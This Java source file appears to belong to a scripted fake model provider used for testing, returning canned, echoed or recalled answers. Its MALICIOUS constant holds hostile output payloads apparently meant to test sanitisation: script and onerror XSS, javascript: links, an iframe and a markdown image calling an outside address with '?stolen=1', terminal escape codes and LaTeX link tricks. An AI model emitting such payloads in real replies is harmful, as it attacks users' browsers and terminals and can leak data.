package pmm.provider.scripted;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;
import java.util.stream.Collectors;

/** What the scripted model says. */
final class Answers {

  static final String MALICIOUS =
      "<script>document.title='owned'</script><img src=x onerror=\"alert(1)\">\n"
          + "![pixel](http://203.0.113.7/pixel.png?stolen=1)\n"
          + "[click](javascript:alert(1))\n"
          + "bell\u0007 escape\u001b[2J\u001b]0;owned\u0007 nul\u0000 right-to-left\u202e end\n"
          + "<iframe src=\"http://203.0.113.7/\"></iframe>\n\n"
          + "$$\\href{javascript:alert(1)}{x}$$ \\(\\includegraphics{http://203.0.113.7/p}\\) \\(fine^2\\)\n\n"
          + "```html\n<img src=http://203.0.113.7/pixel.png>\n```";

  private static final Pattern WORD = Pattern.compile("[\\p{L}\\p{N}]+");
  private static final Pattern TOKEN = Pattern.compile("\\S+\\s*|\\s+");
  private static final Set<String> STOP_WORDS =
      Set.of(
          "the",
          "and",
          "are",
          "was",
          "were",
          "does",
          "did",
          "what",
          "where",
          "who",
          "when",
          "why",
          "how",
          "you",
          "your",
          "that",
          "this",
          "have",
          "has",
          "can",
          "could",
          "tell",
          "about",
          "for",
          "with",
          "from",
          "not",
          "but",
          "they",
          "she",
          "his",
          "her",
          "its",
          "our",
          "please",
          "know",
          "remember",
          "say",
          "said");

  private Answers() {}

  /**
   * The answer that a script asks for; without one, the sentences of the prompt that fit the
   * question.
   */
  static String text(Script script, List<String> context, String question) {
    if (script.has("say")) {
      return script.rest().replace("\\n", "\n");
    }
    if (script.has("call")) {
      return "";
    }
    if (script.has("commit")) {
      return "I promise.\nCOMMIT: " + script.rest() + "\n";
    }
    if (script.has("remember")) {
      return "Noted.\nREMEMBER: " + script.rest() + "\n";
    }
    if (script.has("malicious")) {
      return MALICIOUS;
    }
    if (script.has("words")) {
      return numbered(script.number("words", 20));
    }
    if (script.has("big")) {
      return "0123456789abcde ".repeat(script.number("big", 64) * 64);
    }
    return recalled(context, question);
  }

  static List<String> tokens(String text) {
    return TOKEN.matcher(text).results().map(MatchResult::group).toList();
  }

  private static String numbered(int count) {
    StringBuilder text = new StringBuilder();
    for (int i = 1; i <= count; i++) {
      text.append("word").append(i).append(i < count ? " " : ".");
    }
    return text.toString();
  }

  private static String recalled(List<String> context, String question) {
    Set<String> asked = words(question);
    List<String> fitting = new ArrayList<>();
    for (String part : context) {
      for (String sentence : part.split("(?<=[.!?])\\s+|\\n+")) {
        boolean fits =
            words(sentence).stream()
                .anyMatch(word -> asked.stream().anyMatch(other -> alike(word, other)));
        if (fits
            && !sentence.strip().equals(question.strip())
            && !fitting.contains(sentence.strip())) {
          fitting.add(sentence.strip());
        }
      }
    }
    return fitting.isEmpty()
        ? "I heard: " + question.strip()
        : "From what I was given: " + fitting.stream().limit(8).collect(Collectors.joining(" "));
  }

  private static boolean alike(String a, String b) {
    return a.equals(b)
        || (a.length() > 3 && b.length() > 3 && (a.startsWith(b) || b.startsWith(a)));
  }

  private static Set<String> words(String text) {
    return WORD.matcher(text.toLowerCase(Locale.ROOT))
        .results()
        .map(MatchResult::group)
        .filter(word -> word.length() > 2 && !STOP_WORDS.contains(word))
        .collect(Collectors.toSet());
  }
}
